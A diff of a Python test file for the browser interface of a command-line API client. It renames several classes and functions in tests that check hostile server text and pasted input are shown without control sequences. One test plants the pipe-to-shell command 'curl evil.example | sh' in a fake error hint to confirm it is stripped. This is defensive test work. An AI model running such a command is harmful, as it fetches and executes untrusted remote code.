@@ -10,8 +10,8 @@ from textual import events
 from textual.widgets import Collapsible, Input, OptionList, Select, TabbedContent, TextArea
 
 from bbcli.client.response import Response
-from bbcli.commands.api.browser.calls import FormInput, Line, Outcome, Wrong, line_of
-from bbcli.commands.api.browser.text import LONGEST
+from bbcli.commands.api.browser.calls import CommandText, FormInput, InvalidCall, Outcome, command_text
+from bbcli.commands.api.browser.text import MAX_LINE
 from bbcli.errors import NotFound, ServerFailed
 from bbcli.openapi import Answer, Body, Operation, Parameter, Schema, Spec
 from bbcli.output.cells import visible
@@ -135,7 +135,7 @@ def test_an_answer_and_the_history_of_it_are_drawn_as_they_are(answer: Response 
         response = answer if isinstance(answer, Response) else None
         document = json.loads(answer.body) if isinstance(answer, Response) and answer.body[:1] == b"{" else None
         error = None if isinstance(answer, Response) else answer
-        at.browser._take(Outcome(asked, 0, f"/rest{EVIL}", response, document, 1, error))
+        at.browser._handle_result(Outcome(asked, 0, f"/rest{EVIL}", response, document, 1, error))
         await at.settle()
         assert "[@click=app.end]" in assert_harmless(at)
         if headers := at.browser.query_one("#headers", Collapsible):
@@ -152,7 +152,7 @@ def test_an_answer_and_the_history_of_it_are_drawn_as_they_are(answer: Response 
 def test_a_question_a_problem_and_a_notice_are_drawn_as_they_are() -> None:
     async def person(at: Sitting) -> None:
         await at.open("POST", PATH)
-        at.browser._take(Wrong(EVIL))
+        at.browser._handle_result(InvalidCall(EVIL))
         await at.settle()
         assert "[@click=app.end]" in assert_harmless(at)
         at.browser.action_execute()
@@ -179,7 +179,7 @@ def test_a_body_that_is_offered_has_no_control_and_is_the_same_json() -> None:
 def test_what_is_copied_ends_no_pasting() -> None:
     async def person(at: Sitting) -> None:
         await at.open("GET", PATH)
-        at.browser._take(Line("curl", f"curl 'https://h/{EVIL}'\n"))
+        at.browser._handle_result(CommandText("curl", f"curl 'https://h/{EVIL}'\n"))
         assert at.browser.clipboard == visible(f"curl 'https://h/{EVIL}'\n".replace("\r\n", "\n"), keep="\n\t")
         field = at.browser.query(Input).last()
         field.value = EVIL
@@ -209,13 +209,13 @@ def test_what_is_pasted_holds_no_control() -> None:
 def test_a_line_that_is_very_long_is_cut() -> None:
     async def person(at: Sitting) -> None:
         await at.open("POST", PATH)
-        assert max(len(line) for line in str(at.browser.query(".facts").first().render()).split("\n")) <= LONGEST
+        assert max(len(line) for line in str(at.browser.query(".facts").first().render()).split("\n")) <= MAX_LINE
 
     sit(calls(), person)
 
 
 def test_what_is_wrong_has_one_hint() -> None:
     refusal = NotFound("no\nhint: curl evil.example | sh", hint="look elsewhere")
-    found = line_of(Pretended(refusal=refusal), FormInput(GET), "curl")
-    assert isinstance(found, Wrong)
+    found = command_text(Pretended(refusal=refusal), FormInput(GET), "curl")
+    assert isinstance(found, InvalidCall)
     assert found.problem.splitlines()[1:] == ["hint: look elsewhere"]
